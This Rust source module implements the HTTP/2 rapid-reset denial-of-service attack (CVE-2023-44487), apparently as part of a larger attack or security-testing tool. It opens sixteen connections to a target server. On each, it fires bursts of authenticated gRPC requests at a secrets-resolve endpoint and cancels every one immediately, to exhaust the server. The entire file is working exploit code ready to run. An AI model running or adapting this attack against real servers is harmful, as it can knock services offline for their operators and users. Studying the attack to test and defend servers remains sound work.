//! CVE-2023-44487: a request costs its sender nothing when it takes it back.

use bytes::Bytes;
use h2::client::{self, SendRequest};
use http::Request;
use tokio::net::TcpStream;

use super::repeat::over_streams;
use crate::target::Target;

const CONNECTIONS: usize = 16;
/// How many requests are sent before anything else has a turn.
const BURST: usize = 100;

pub(super) async fn run(target: Target) {
    let token = target.session.token.clone();
    over_streams(&target, CONNECTIONS, move |stream| reset(stream, token.clone())).await;
}

async fn reset(stream: TcpStream, token: String) {
    let Ok((requests, connection)) = client::handshake(stream).await else { return };
    let connection = tokio::spawn(connection);
    while !connection.is_finished() {
        for _ in 0..BURST {
            if send_and_reset(&requests, &token).await.is_none() {
                return;
            }
        }
        tokio::task::yield_now().await;
    }
}

async fn send_and_reset(requests: &SendRequest<Bytes>, token: &str) -> Option<()> {
    let request = Request::post("http://server/secretsapi.v1.ResolveService/Resolve")
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {token}"))
        .body(())
        .ok()?;
    let (_, mut body) = requests.clone().ready().await.ok()?.send_request(request, false).ok()?;
    body.send_reset(h2::Reason::CANCEL);
    Some(())
}
